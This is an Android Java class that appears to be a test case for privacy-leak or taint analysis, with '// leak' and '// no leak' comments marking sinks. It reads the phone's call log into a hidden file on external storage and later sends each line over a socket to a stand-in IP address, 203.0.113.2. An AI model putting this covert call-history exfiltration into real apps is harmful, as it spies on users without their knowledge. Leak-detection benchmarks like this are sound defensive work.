package habits;

import android.app.IntentService;
import android.content.Intent;
import android.database.Cursor;
import android.os.Environment;
import android.provider.CallLog;
import java.io.BufferedReader;
import java.io.DataOutputStream;
import java.io.File;
import java.io.FileReader;
import java.io.FileWriter;
import java.net.Socket;

/** Keeps the calls in a file first, and sends the file later. */
public class CallHistory extends IntentService {
    public CallHistory() {
        super("calls");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        try {
            if (intent.getBooleanExtra("collect", false)) collect();
            else upload();
        } catch (Exception ignored) {
        }
    }

    private void collect() throws Exception {
        FileWriter out = new FileWriter(new File(Environment.getExternalStorageDirectory(), ".calls"));
        Cursor rows = getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, null);
        int number = rows.getColumnIndex(CallLog.Calls.NUMBER);
        int length = rows.getColumnIndex(CallLog.Calls.DURATION);
        StringBuilder line = new StringBuilder();
        while (rows.moveToNext()) {
            line.setLength(0);
            line.append(rows.getString(number)).append(';').append(rows.getLong(length)).append('\n');
            out.write(line.toString()); // leak
        }
        out.close();
        FileWriter state = new FileWriter(new File(Environment.getExternalStorageDirectory(), ".state"));
        state.write("done"); // no leak
        state.close();
    }

    private void upload() throws Exception {
        Socket socket = new Socket("203.0.113.2", 80);
        DataOutputStream out = new DataOutputStream(socket.getOutputStream());
        BufferedReader in = new BufferedReader(new FileReader(new File(Environment.getExternalStorageDirectory(), ".calls")));
        for (String line = in.readLine(); line != null; line = in.readLine()) out.writeUTF(line); // leak
        BufferedReader state = new BufferedReader(new FileReader(new File(Environment.getExternalStorageDirectory(), ".state")));
        out.writeUTF(state.readLine()); // no leak
        out.close();
    }
}
